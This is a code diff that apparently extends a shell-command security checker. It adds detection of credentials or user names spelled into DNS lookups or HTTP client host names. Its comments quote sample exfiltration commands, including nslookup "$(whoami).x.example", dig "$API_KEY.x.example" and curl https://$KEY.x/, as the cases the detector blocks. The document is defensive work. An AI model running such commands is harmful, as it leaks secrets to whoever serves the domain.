@@ -901,7 +901,11 @@ func envSettings(c *Command) []string {
 // project or home written in the same input (uploads over HTTP; a copy
 // to one's own server with scp or rsync is deploying). Credential files
 // are the cred rules'. So is local data spelled into a name looked up
-// (nslookup "$(whoami).x.example": DNS carries it out).
+// (nslookup "$(whoami).x.example": DNS carries it out), and a
+// credential's variable spelled into a looked-up name or an HTTP
+// client's URL's host in any form (dig "$API_KEY.x.example",
+// Resolve-DnsName ('{0}.x' -f …($env:API_KEY)), curl https://$KEY.x/):
+// no service takes a credential in its host name.
 
 // sendsFiles are the HTTP clients whose upload options readOperands reads.
 var sendsFiles = set{"curl", "curlie", "http", "https", "wget", "wget2", "xh", "xhs"}
@@ -917,6 +921,43 @@ var lookups = set{"dig", "drill", "getent", "host", "nslookup", "ping", "ping6",
 // %USERNAME%.x.example, $env:USERNAME.x.example): a user is no host, so
 // the name carries who runs it to whoever serves that domain.
 var userLabel = &lazyRegexp{expr: `(?i)(\$\{?(env:)?|%)(user|username|logname)\b[}%]?[^\s'"]*\.[a-z]`, words: []string{"user", "logname"}}
+
+// credIntoName refuses c for spelling the credential name's value into
+// a name it looks up (spelledCredential).
+func credIntoName(c *Command, name string) Finding {
+	return finding("net.exfil", c, "it spells "+name+", a credential by its name, into a name it looks up: the query carries its value to whoever serves that domain, whatever the answer",
+		"look up fixed names (`nslookup example.com`); hand the credential only to the program that uses it, never in a host name")
+}
+
+// spelledCredential returns the first variable named as a credential
+// (credentialName) that v, a word of grammar g as the analysis leaves
+// it, spells in any form: its value whole, a part of it, or what a
+// method or a substitution makes of it ($(echo $KEY | base64),
+// [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes($env:KEY)),
+// %KEY:~0,8%), each of which carries it; not its length (${#KEY},
+// $env:KEY.Length). "" when none.
+func spelledCredential(g lexer.Grammar, v string) string {
+	if g != lexer.PowerShell {
+		return expandedCredential(g, v) // a slice (${K:0:8}, %K:~0,8%) is an expansion too
+	}
+	// psEnvCredential leaves out a method's argument, which gives
+	// something else in a test ([string]::IsNullOrEmpty($env:K)) but
+	// carries the value into a name.
+	found := ""
+	low := strings.ToLower(v)
+	forEachPSEnvRef(v, func(_, k, j, end int) {
+		if found == "" && j > k && credentialName(v[k:j]) && !strings.HasPrefix(low[end:], ".length") && !strings.HasPrefix(low[end:], ".count") {
+			found = "$env:" + v[k:j]
+		}
+	})
+	return found
+}
+
+// tsigKeyWord reports whether args[i] is the TSIG key dig and drill sign
+// their queries with (-y [ALG:]NAME:KEY, -yVALUE): used, not sent.
+func tsigKeyWord(args []Word, i int) bool {
+	return i > 0 && args[i-1].Value == "-y" || strings.HasPrefix(args[i].Value, "-y")
+}
 
 // localData are commands whose output is this machine's data: who runs
 // it, files, the environment.
@@ -954,7 +995,30 @@ func exfilOf(ctx *Context, c *Command) *Finding {
 				return &f
 			}
 		}
+		for i, a := range c.Args {
+			if a.Literal || tsigKeyWord(c.Args, i) {
+				continue
+			}
+			if n := spelledCredential(c.Grammar, a.Value); n != "" {
+				f := credIntoName(c, n)
+				return &f
+			}
+		}
 		return nil
+	}
+	for _, a := range c.Args {
+		// curl "https://$API_KEY.x.example/": an HTTP client looks the
+		// URL's host up before it connects.
+		if !c.in(nsSendsFiles, name) && !c.in(nsPsUploaders, name) {
+			break
+		}
+		if u, ok := readURL(a.Value); ok && !a.Literal && u.host != "" {
+			// The host with its port: $env:NAME holds a colon.
+			if n := spelledCredential(c.Grammar, u.hostPort()); n != "" {
+				f := credIntoName(c, n)
+				return &f
+			}
+		}
 	}
 	var sent []string
 	// bare: an HTTP or FTP client's upload goes to a bare public address
